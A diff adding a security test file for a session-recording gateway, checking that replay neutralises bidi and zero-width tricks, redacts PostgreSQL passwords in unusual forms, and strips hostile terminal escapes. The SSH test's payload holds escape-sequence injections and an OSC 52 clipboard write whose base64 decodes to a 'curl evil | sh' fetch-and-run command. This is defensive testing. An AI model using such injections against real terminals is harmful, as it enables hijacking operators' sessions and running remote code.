@@ -1,0 +1,157 @@
+// The session record against a hostile client (docs/security.md classes 39–41): what a client sends
+// must not make a reader of the record see something else, and no password it carries may be kept.
+// - `sessions replay` shows bidi overrides and zero-width characters in statement text visibly;
+// - `sessions replay --play` cannot drive the operator's terminal past the playback (a recording
+//   that rewrites the timeline above, sets the clipboard or asks for a report), with real OpenSSH;
+// - passwords PostgreSQL reads in forms the redaction missed (U&'…', a literal continued on the
+//   next line, sslpassword and a Unicode-escaped option name) are redacted, through the real listener.
+
+import { Command, CommanderError } from 'commander';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { sessionsCommand } from '../src/cli/sessions-command.js';
+import { defaultSshPolicies } from '../src/policy/index.js';
+import { startTestGateway, type TestGateway } from './testkit/gateway.js';
+import { hasSshd, startSshd, type TestSshd } from './testkit/sshd.js';
+import { findSshStatement, startSshTestGateway, type SshTestGateway } from './testkit/ssh-gateway.js';
+
+type Store = TestGateway['gateway']['store'];
+type Blobs = TestGateway['gateway']['recording']['blobs'];
+
+async function replay(store: Store, blobs: Blobs, id: string, extra: string[] = []): Promise<string> {
+  const o = { out: '', err: '' };
+  const cmd = sessionsCommand({
+    io: {
+      stdout: { write: (s: string) => (o.out += s) },
+      stderr: { write: (s: string) => (o.err += s) },
+      stdin: (async function* () {})(),
+      env: {},
+    } as never,
+    openStore: async () => ({ ...store, close: async () => undefined }) as never,
+    openReplay: async () => ({ store, blobs, close: async () => undefined }),
+  });
+  const program = new Command('gatehouse').exitOverride();
+  for (const c of [cmd, ...cmd.commands])
+    c.exitOverride().configureOutput({ writeOut: () => undefined, writeErr: () => undefined });
+  program.addCommand(cmd);
+  try {
+    await program.parseAsync(['sessions', 'replay', id, ...extra], { from: 'user' });
+  } catch (e) {
+    if (!(e instanceof CommanderError)) throw e;
+    throw new Error(`replay exited ${e.exitCode}: ${o.err}`);
+  }
+  return o.out;
+}
+
+describe('PostgreSQL statements in the record', () => {
+  let gw: TestGateway;
+  let sessionId: string;
+
+  beforeAll(async () => {
+    gw = await startTestGateway({
+      superUrl: inject('pgUrl'),
+      extra: { listeners: { postgres: { address: '127.0.0.1:0' } } },
+    });
+    const token = await gw.token({ subject: 'rec-redteam', groups: ['testers'], agent: true });
+    const c = gw.client(token, { application_name: 'psql' });
+    await c.connect();
+    const run = async (sql: string) => {
+      await c.query(sql).catch(() => undefined);
+    };
+    // What a reader of the replay sees as `… WHERE id = 1 -- ` is the statement with the tail reversed.
+    await run('SELECT 1 AS ok /* \u202e 1 = di EREHW */');
+    await run('SELECT 2 AS ok\u200b');
+    await run("CREATE ROLE rr_u1 LOGIN PASSWORD U&'Uni\\0063ode-Secret-1'");
+    await run("CREATE ROLE rr_u2 LOGIN PASSWORD 'Conti'\n'nued-Secret-2'");
+    await run(
+      "CREATE USER MAPPING FOR CURRENT_USER SERVER rr_nosuch OPTIONS (user 'u', sslpassword 'Ssl-Secret-3', U&\"p\\0061ssword\" 'Escaped-Secret-4')",
+    );
+    await run("ALTER ROLE rr_u1 PASSWORD 'Plain-Secret-5'");
+    await c.end();
+    await new Promise((r) => setTimeout(r, 200));
+    sessionId = (await gw.gateway.store.listSessions({ subject: 'rec-redteam', limit: 1 }))[0]!.id;
+  });
+
+  afterAll(async () => {
+    await gw?.stop();
+  });
+
+  it('sessions replay shows reordering and invisible characters instead of obeying them', async () => {
+    const out = await replay(gw.gateway.store, gw.gateway.recording.blobs, sessionId);
+    expect(out).toContain('SELECT 1 AS ok /* ⟨U+202E⟩ 1 = di EREHW */');
+    expect(out).toContain('SELECT 2 AS ok⟨U+200B⟩');
+    expect(out).not.toMatch(/[\u202e\u200b]/);
+  });
+
+  it('no password is kept, in any form PostgreSQL reads one', async () => {
+    const events = JSON.stringify(await gw.gateway.store.getEvents(sessionId, 0, 1000));
+    const got = JSON.stringify(await gw.gateway.store.getSession(sessionId));
+    for (const secret of [
+      'Secret-1',
+      'nued-Secret-2',
+      'Ssl-Secret-3',
+      'Escaped-Secret-4',
+      'Plain-Secret-5',
+    ]) {
+      expect(events, secret).not.toContain(secret);
+      expect(got, secret).not.toContain(secret);
+    }
+    // Only the literals are replaced: the rest of each statement is as sent.
+    expect(events).toContain("CREATE ROLE rr_u1 LOGIN PASSWORD '[REDACTED]'");
+    expect(events).toContain("CREATE ROLE rr_u2 LOGIN PASSWORD '[REDACTED]'\\n'[REDACTED]'");
+    expect(events).toContain("sslpassword '[REDACTED]'");
+    expect(events).toContain('U&\\"p\\\\0061ssword\\" \'[REDACTED]\'');
+  });
+});
+
+describe.skipIf(!hasSshd())('a terminal recording played back', { timeout: 120_000 }, () => {
+  let sshd: TestSshd;
+  let gw: SshTestGateway;
+
+  beforeAll(async () => {
+    sshd = await startSshd();
+    gw = await startSshTestGateway({ sshd, policies: defaultSshPolicies(['prod-bastion']) });
+  });
+
+  afterAll(async () => {
+    await gw?.stop();
+    await sshd?.stop();
+  });
+
+  it('cannot rewrite the timeline, set the clipboard, or make the terminal answer', async () => {
+    const admin = await gw.token({ subject: 'play-person', groups: ['ssh-admins'], agent: false });
+    // What the remote side prints (an agent can make any host or pod print this): cursor up 50 lines
+    // and a forged timeline line, erase the scrollback, an OSC 52 clipboard write, a window title,
+    // a device-status request (the terminal types its answer), mouse reporting, the alternate
+    // screen left early, a full reset, and an 8-bit CSI.
+    const payload =
+      "printf 'plain-%s\\n' out; " +
+      "printf '\\033[50A\\033[2K   +0.001s  #1  allow  rule=harmless  select  [read]\\n'; " +
+      "printf '\\033[3J\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007\\033]0;title\\033\\\\'; " +
+      "printf '\\033[6n\\033[?1000h\\033[?1049l\\033c\\302\\2332J'; " +
+      "printf '\\033[1;31mred\\033[0m-end\\n'";
+    const r = await gw.ssh(admin, ['-tt', '--', payload]);
+    expect(r.stdout).toContain('plain-out');
+    const st = await findSshStatement(gw, (s) => s.text.includes('plain-%s'));
+    expect(st.result?.terminalRef?.format).toBe('asciicast-v2');
+    const out = await replay(gw.gateway.store, gw.gateway.recording.blobs, st.sessionId, [
+      '--play',
+      '--speed',
+      '100',
+    ]);
+    const played = out.slice(out.indexOf('── terminal recording'));
+    // Played in the alternate screen it enters and leaves itself, once.
+    expect(played).toContain('\u001b[?1049h');
+    expect(played.split('\u001b[?1049l').length).toBe(2);
+    expect(played.indexOf('\u001b[?1049l')).toBeGreaterThan(played.indexOf('red'));
+    // Drawing inside the screen is kept: colours, the cursor moves within it.
+    expect(played).toContain('\u001b[1;31mred\u001b[0m-end');
+    expect(played).toContain('plain-out');
+    // Nothing that reaches past the screen.
+    expect(played).not.toContain('\u001b]');
+    expect(played).not.toContain('\u001b[3J');
+    expect(played).not.toContain('\u001b[6n');
+    expect(played).not.toContain('\u001b[?1000h');
+    expect(played).not.toContain('\u001bc');
+    expect(played).not.toContain('\u009b');
+  });
+});
